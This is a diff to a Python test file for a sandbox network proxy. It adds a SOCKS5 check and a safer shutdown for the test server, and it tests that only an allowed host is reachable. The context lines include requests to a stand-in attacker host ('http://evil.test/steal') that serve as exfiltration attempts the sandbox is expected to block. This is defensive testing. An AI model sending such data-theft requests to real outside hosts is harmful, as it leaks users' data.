@@ -30,6 +30,15 @@ try:
     urllib.request.urlopen("http://evil.test/steal", timeout=10)
 except urllib.error.HTTPError as e:
     print("REFUSED", e.code, e.read().decode().strip())
+# SOCKS5 (RFC 1928) to where ALL_PROXY points, CONNECT by name
+proxy = os.environ["ALL_PROXY"].rpartition("/")[2].split(":")
+s = socket.create_connection((proxy[0], int(proxy[1])), timeout=10)
+s.sendall(b"\x05\x01\x00")
+assert s.recv(2) == b"\x05\x00"
+s.sendall(b"\x05\x01\x00\x03\x09localhost" + port.to_bytes(2, "big"))
+reply = s.recv(10)
+s.sendall(b"GET /socks HTTP/1.1\r\nHost: localhost\r\n\r\n")
+print("SOCKS", reply[1], s.recv(100).split(b"\r\n\r\n")[-1].decode())
 try:
     socket.create_connection(("127.0.0.1", port), timeout=3).sendall(b"GET /direct")
     print("DIRECT-TCP-WORKED")
@@ -53,6 +62,15 @@ class Upstream:
         self.sock = socket.create_server(("127.0.0.1", 0))
         self.port = self.sock.getsockname()[1]
         threading.Thread(target=self._serve, daemon=True).start()
+
+    def close(self) -> None:
+        """Stop: shutdown() first, or the thread blocked in accept() keeps the socket
+        listening (and answering) after close()."""
+        try:
+            self.sock.shutdown(socket.SHUT_RDWR)
+        except OSError:
+            pass
+        self.sock.close()
 
     def _serve(self) -> None:
         while True:
@@ -86,15 +104,17 @@ def test_allowed_host_through_the_proxy_and_nothing_else(host, writes: str) -> N
             "run", "--writes", writes, "--", "python3", "-c", CLIENT, str(upstream.port)
         )
     finally:
-        upstream.sock.close()
+        upstream.close()
     out = result.stdout
     assert DONE in out, result.stderr
     assert "PROXY http://127.0.0.1:3128" in out
     assert "BODY UPSTREAM" in out
+    assert "SOCKS 0 UPSTREAM" in out
     assert "REFUSED 403" in out and "sandbox.policy.network_allow" in out
     assert "DIRECT-TCP-WORKED" not in out and "UDP-SENT" not in out
-    # The host's server saw the one allowed request, for the allowed name, and nothing else.
-    assert len(upstream.requests) == 1, upstream.requests
+    # The host's server saw the allowed requests, for the allowed name, and nothing else.
+    assert len(upstream.requests) == 2, upstream.requests
+    assert upstream.requests[1].startswith(b"GET /socks ")
     head = upstream.requests[0].decode()
     assert head.startswith("GET /ok HTTP/1.1") and f"Host: localhost:{upstream.port}" in head
     assert "corral: blocked connection to evil.test:80" in result.stderr
@@ -161,7 +181,7 @@ def test_the_fetch_tool_obeys_the_same_list(host, monkeypatch: pytest.MonkeyPatc
         refused = call("op", "http://evil.test/")
         assert not refused["ok"] and refused["refusal"]["code"] == "host-not-allowed"
     finally:
-        upstream.sock.close()
+        upstream.close()
     assert len(upstream.requests) == 1
 
 
